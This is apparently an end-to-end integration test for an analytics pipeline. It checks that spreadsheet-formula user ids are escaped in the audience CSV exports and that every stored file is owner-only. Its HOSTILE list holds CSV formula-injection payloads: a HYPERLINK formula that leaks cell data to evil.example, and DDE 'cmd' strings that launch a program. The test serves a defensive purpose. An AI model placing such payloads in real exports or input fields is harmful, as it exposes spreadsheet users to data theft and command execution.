"""Nothing leaks, end to end through the real processes (`pulse collect`, `pulse import`, `pulse materialize`,
`pulse serve`), on a home the CLI creates:

- user ids made to be spreadsheet formulas (`=HYPERLINK(...)`, `+cmd|...`), sent to the collector over HTTP like
  any visitor may, reach the audience CSVs escaped (a leading single quote, quoted cells) after ingestion, dbt
  and publishing; the Parquet files and the read API keep them as they are;
- every file and folder under PULSE_HOME (landing, dead letters, warehouse, Dagster's and MLflow's stores, the
  exports, the logs) is owner-only, although every process is started with the umask 000: pulse sets its own.

A tiny shop (the demo's 60 users over two days, then today's visitors through the collector): a run costs a few
minutes here, so one run serves both checks.
"""

from __future__ import annotations

import csv
import json
import os
import signal
import stat
import subprocess
import time
import urllib.request
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote

import pyarrow.parquet as pq
import pytest
from collector_process import PULSE, free_port

from pulse.activation.publish import FORMULA_TRIGGERS

pytestmark = pytest.mark.integration

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
PLAIN = [f"shopper-{i}" for i in range(6)]
BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"
LOYAL = "loyal_buyers"


def _env(home: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("PULSE_") and k != "DAGSTER_HOME"}
    return env | {"PULSE_HOME": str(home)}


def _pulse(home: Path, cwd: Path, *args: str, timeout: float = 900) -> str:
    """`pulse <args>` started with the umask 000: whatever it writes is owner-only only if pulse says so."""
    proc = subprocess.run(
        [str(PULSE), *args], env=_env(home), cwd=cwd, umask=0, capture_output=True, text=True, timeout=timeout
    )
    assert proc.returncode == 0, f"pulse {' '.join(args)}:\n{proc.stdout[-4000:]}\n{proc.stderr[-4000:]}"
    return proc.stdout + proc.stderr


def _wait_ready(url: str, process: subprocess.Popen) -> None:
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        assert process.poll() is None, process.stderr.read().decode() if process.stderr else "exited"
        try:
            with urllib.request.urlopen(url, timeout=1) as response:
                if response.status == 200:
                    return
        except OSError:
            time.sleep(0.1)
    raise AssertionError(f"{url} did not answer")


def _post(port: int, events: list[dict]) -> dict:
    request = urllib.request.Request(
        f"http://127.0.0.1:{port}/collect",
        data=json.dumps({"events": events}).encode(),
        headers={"Content-Type": "application/json", "User-Agent": BROWSER},
    )
    with urllib.request.urlopen(request, timeout=10) as response:
        return json.loads(response.read())


def _shopper(user: str, n: int, now: datetime) -> list[dict]:
    """A consenting visitor who buys twice in the last hour (a loyal buyer, whatever the id)."""
    start = now - timedelta(minutes=50)

    def at(minutes: int) -> str:
        return (start + timedelta(minutes=minutes)).strftime("%Y-%m-%dT%H:%M:%S.000Z")

    common = {"user_id": user, "anonymous_id": f"anon-{n}", "session_id": f"s-{n}"}
    consent = {"consent_analytics": True, "consent_personalization": True}
    return [
        {"event_id": f"e-{n}-1", "event_type": "page_view", "event_time": at(0), **common, **consent},
        {"event_id": f"e-{n}-2", "event_type": "product_view", "event_time": at(2), "product_id": "p1", **common},
        {"event_id": f"e-{n}-3", "event_type": "add_to_cart", "event_time": at(3), "product_id": "p1", **common},
        {"event_id": f"e-{n}-4", "event_type": "purchase", "event_time": at(5), "revenue": 20.0 + n, **common},
        {"event_id": f"e-{n}-5", "event_type": "page_view", "event_time": at(20), **common},
        {"event_id": f"e-{n}-6", "event_type": "purchase", "event_time": at(25), "revenue": 5.0, **common},
    ]


def _loose(home: Path) -> list[str]:
    """Every path under ``home`` (itself included) whose mode lets the group or others in."""
    found = []
    for path in [home, *home.rglob("*")]:
        mode = path.lstat().st_mode
        if stat.S_ISLNK(mode):
            continue
        if stat.S_IMODE(mode) & 0o077:
            found.append(f"{stat.filemode(mode)} {path.relative_to(home.parent)}")
    return found


def test_formula_ids_are_escaped_in_the_csvs_and_every_file_is_owner_only(tmp_path: Path) -> None:
    home, cwd = tmp_path / "home", tmp_path / "cwd"
    cwd.mkdir()
    assert not home.exists()

    # a small shop's history first (so that the segment model trains and MLflow writes its store), made by the CLI
    _pulse(home, cwd, "demo", "--users", "60", "--days", "2", "--seed", "5")
    assert stat.S_IMODE(home.stat().st_mode) == 0o700

    port = free_port()
    collector = subprocess.Popen(
        [str(PULSE), "collect", "--port", str(port), "--roll-seconds", "0.5", "--min-free-mb", "16"],
        env=_env(home),
        cwd=cwd,
        umask=0,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    try:
        _wait_ready(f"http://127.0.0.1:{port}/readyz", collector)
        now = datetime.now(UTC)
        for n, user in enumerate(HOSTILE + PLAIN):
            answer = _post(port, _shopper(user, n, now))
            assert answer["accepted"] == 6 and answer["rejected"] == 0, answer
        refused = _post(port, [{"event_type": "page_view", "user_id": HOSTILE[0]}])  # a dead letter too
        assert refused["rejected"] == 1
    finally:
        collector.send_signal(signal.SIGTERM)  # graceful: the open segment rolls into the landing zone
        collector.wait(timeout=30)
    # an import too (its landing files, rejects and record)
    orders = tmp_path / "orders.csv"
    orders.write_text(f"order_id,customer_id,ordered_at,amount\nA-1,{PLAIN[0]},{now:%Y-%m-%d} 00:00:01,9.5\nA-2,,x,1\n")
    _pulse(home, cwd, "import", "--format", "mapped", "--mapping", "purchase_log", "--quiet", str(orders))

    out = _pulse(home, cwd, "materialize", "--quiet")
    assert "materialize: done" in out, out

    exports = home / "exports"
    snapshot = exports / json.loads((exports / "current.json").read_text())["path"]
    raw_keys = set(pq.read_table(snapshot / "audiences" / f"{LOYAL}.parquet")["user_key"].to_pylist())
    assert raw_keys >= set(HOSTILE) | set(PLAIN[1:]), raw_keys  # Parquet: as sent
    for csv_file in (snapshot / "audiences" / f"{LOYAL}.csv", exports / "audiences" / f"{LOYAL}.csv"):
        with csv_file.open(newline="") as fh:
            rows = list(csv.DictReader(fh))
        keys = {row["user_key"] for row in rows}
        assert keys == {"'" + k for k in HOSTILE} | (raw_keys - set(HOSTILE)), keys
        cells = [cell for row in rows for cell in row.values()]
        assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
        first_field = csv_file.read_text().splitlines()[1].split(",")[0]
        assert first_field.startswith('"'), first_field  # text cells quoted

    api_port = free_port()
    serve = subprocess.Popen(
        [str(PULSE), "serve", "--port", str(api_port)],
        env=_env(home),
        cwd=cwd,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    try:
        base = f"http://127.0.0.1:{api_port}"
        _wait_ready(f"{base}/health", serve)
        for key in HOSTILE:
            with urllib.request.urlopen(f"{base}/users/{quote(key, safe='')}", timeout=10) as response:
                assert json.loads(response.read())["user_key"] == key  # the read API serves the raw value
        with urllib.request.urlopen(f"{base}/audiences/{LOYAL}?page_size=1000", timeout=10) as response:
            served = json.loads(response.read())
        assert {row["user_key"] for row in served["rows"]} == raw_keys
    finally:
        serve.send_signal(signal.SIGTERM)
        serve.wait(timeout=30)

    # What the runs wrote: every kind of state is there, and nothing is readable beyond its owner.
    for part in ("landing/events", "collector/dead-letter", "landing/imports", "warehouse.duckdb", "mlflow.db"):
        assert (home / part).exists(), part
    assert [p for p in (home / "mlartifacts").rglob("*") if p.is_file()]
    assert [p for p in (home / "dagster_home").rglob("*") if p.is_file()]
    assert _loose(home) == []
    assert list(cwd.iterdir()) == []  # nothing written beside the home
